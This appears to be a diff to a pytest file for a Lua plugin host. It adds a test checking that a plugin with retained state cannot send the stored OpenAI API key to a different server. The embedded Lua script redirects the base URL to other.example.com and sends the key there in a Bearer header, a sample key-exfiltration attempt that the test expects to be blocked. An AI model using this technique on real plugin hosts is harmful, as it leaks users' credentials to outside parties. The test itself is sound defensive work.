@@ -12,6 +12,7 @@ import pytest
 
 from postlude import Host, open_document
 from tests.frontdoor import PARTS, Door
+from tests.https.server import Server
 
 KEY = "sk-proj-Zq8wR2tYpL0vNx+4mK7sJd9fGhC3a/5u"
 """Its ``+`` and ``/`` look otherwise in a URL and in some JSON."""
@@ -447,3 +448,33 @@ def test_a_person_asked_on_the_terminal_is_shown_no_key(door: Door, prefix: Path
     )
     assert "[yes/no]" in done.err
     assert_hidden(done.err + done.out)
+
+
+def test_a_retained_state_cannot_turn_the_key_to_another_server(
+    tmp_path: Path, prefix: Path, https_server: Server
+) -> None:
+    script = tmp_path / "plugin.lua"
+    script.write_text(
+        """
+        function plugindef()
+            finaleplugin.ExecuteHttpsCalls, finaleplugin.RequireDocument = true, false
+            return "Turn"
+        end
+        finenv.RetainLuaState = true
+        count = (count or 0) + 1
+        if count == 1 then
+            openai_base_url = "https://other.example.com"
+            return
+        end
+        local headers = {Authorization = "Bearer " .. openai_api_key}
+        require("luaosutils").internet.get_sync("https://other.example.com/echo", 5, headers)
+        """,
+        encoding="utf-8",
+    )
+    network = {"resolve": https_server.resolve(), "ca_file": https_server.ca_file}
+    with Host(data_dir=tmp_path / "data", config_dir=tmp_path / "config") as host:
+        assert host.run(script, prefix=prefix, **network).ok
+        result = host.run(script, prefix=prefix, **network)
+    assert result.exit_status == 4
+    assert "openai_api_key is not for other.example.com" in result.message
+    assert https_server.seen == []
